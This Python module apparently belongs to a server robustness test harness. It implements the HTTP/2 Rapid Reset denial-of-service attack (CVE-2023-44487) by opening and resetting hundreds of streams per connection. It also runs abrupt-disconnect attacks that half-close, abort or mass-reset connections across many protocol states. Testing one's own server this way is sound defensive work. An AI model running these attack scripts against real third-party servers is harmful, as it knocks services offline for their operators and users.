"""Calls that are given up: rapid resets, and hanging up in every state."""

from attack import Attack
from attacker import LISTEN
from effort import Effort
from http2_bytes import (CLASSIFY, DATA, PREFACE, data, frame, headers, reset,
                         settings)
from questions import (CLASSIFY_STREAM, DIGIT, MNIST_INPUTS, SMALL, asked,
                       begun, classify, streams)

AT_ONCE = 8
STREAMS_A_BLOB = 500
# Of one connection: more than a server should bear.
BLOBS = [streams(STREAMS_A_BLOB, 1 + 2 * STREAMS_A_BLOB * i) for i in range(10)]

# --- Rapid reset (CVE-2023-44487) --------------------------------------------


def resetting(head, rest, effort):
    """Opens and resets streams until the server has enough of it."""
    blobs = [b"".join(on_stream(head, stream) + on_stream(rest, stream)
                      + reset(stream) for stream in numbers)
             for numbers in BLOBS]

    def script(me):
        yield PREFACE + settings()
        for blob in blobs:
            yield blob
            effort.add(STREAMS_A_BLOB)
            if effort.enough:
                return
        yield LISTEN

    return script


def on_stream(frame_of_1, stream):
    """A frame of stream 1, or nothing, on another one."""
    if not frame_of_1:
        return b""
    return frame_of_1[:5] + stream.to_bytes(4, "big") + frame_of_1[9:]


def rapid_reset(name, head, rest=b""):
    def run(crowd, scale):
        effort = Effort(scale.resets, scale.seconds)
        crowd.run(effort.repeat(resetting(head, rest, effort)), AT_ONCE)
        return f"{effort.done:,} {name} reset at once"

    return Attack("rapid_reset_of_" + name.replace(" ", "_"), run,
                  incidents=("resets",))


# --- Hanging up ---------------------------------------------------------------

HELLO = PREFACE + settings()
SOME_DIGITS = classify("mnist", 20, MNIST_INPUTS)
HEAD = headers(1, CLASSIFY)
MESSAGE = frame(DATA, 0, 1, SMALL)
# What was said before, from nothing to a call that is being answered.
STATES = {
    "connected": b"",
    "in the preface": PREFACE[:10],
    "before SETTINGS": PREFACE,
    "idle": HELLO,
    "in a frame's header": HELLO + HEAD[:5],
    "in a header block": HELLO + headers(1, CLASSIFY, flags=0),
    "in HEADERS": HELLO + HEAD[:30],
    "a call open": HELLO + HEAD,
    "in a prefix": HELLO + HEAD + frame(DATA, 0, 1, SMALL[:3]),
    "in a message": HELLO + HEAD + frame(DATA, 0, 1, SMALL[:20]),
    "in DATA": HELLO + HEAD + MESSAGE[:20],
    "message sent, call open": HELLO + HEAD + MESSAGE,
    "asked": HELLO + asked(1, SMALL),
    "asked for long": HELLO + asked(1, SOME_DIGITS),
    "much in flight": HELLO + b"".join(
        asked(stream, DIGIT) for stream in streams(100)),
    "streaming": HELLO + begun(1, CLASSIFY_STREAM)
                 + frame(DATA, 0, 1, SMALL * 50),
    "gone already": HELLO + asked(1, SMALL) + reset(1),
}


def half_closing(said):
    def script(me):
        if said:
            yield said
        me.half_close()
        yield LISTEN

    return script


def aborting(said):
    def script(me):
        if said:
            yield said
        me.abort()
        yield b""  # where the connection ended, so does the script

    return script


def resetting_streams(said):
    """Resets what it has opened, or what it never has, and goes on."""
    def script(me):
        yield (said or HELLO) + b"".join(reset(s) for s in streams(100))
        me.half_close()
        yield LISTEN

    return script


def abrupt_disconnects(crowd, scale):
    for way in (half_closing, aborting, resetting_streams):
        effort = Effort(scale.ends // 3, scale.seconds / 3)

        def counted(script):
            def run(me):
                effort.add()
                yield from script(me)
            return run

        scripts = [counted(way(said)) for said in STATES.values()]
        crowd.run(effort.repeat(*scripts), at_once=64)
    return (f"{crowd.connections:,} half-closes and resets in "
            f"{len(STATES)} states")


ATTACKS = [
    rapid_reset("small calls", begun(1), data(1, SMALL)),
    rapid_reset("digits", begun(1), data(1, DIGIT)),
    rapid_reset("headers", begun(1)),
    Attack("abrupt_disconnects", abrupt_disconnects),
]
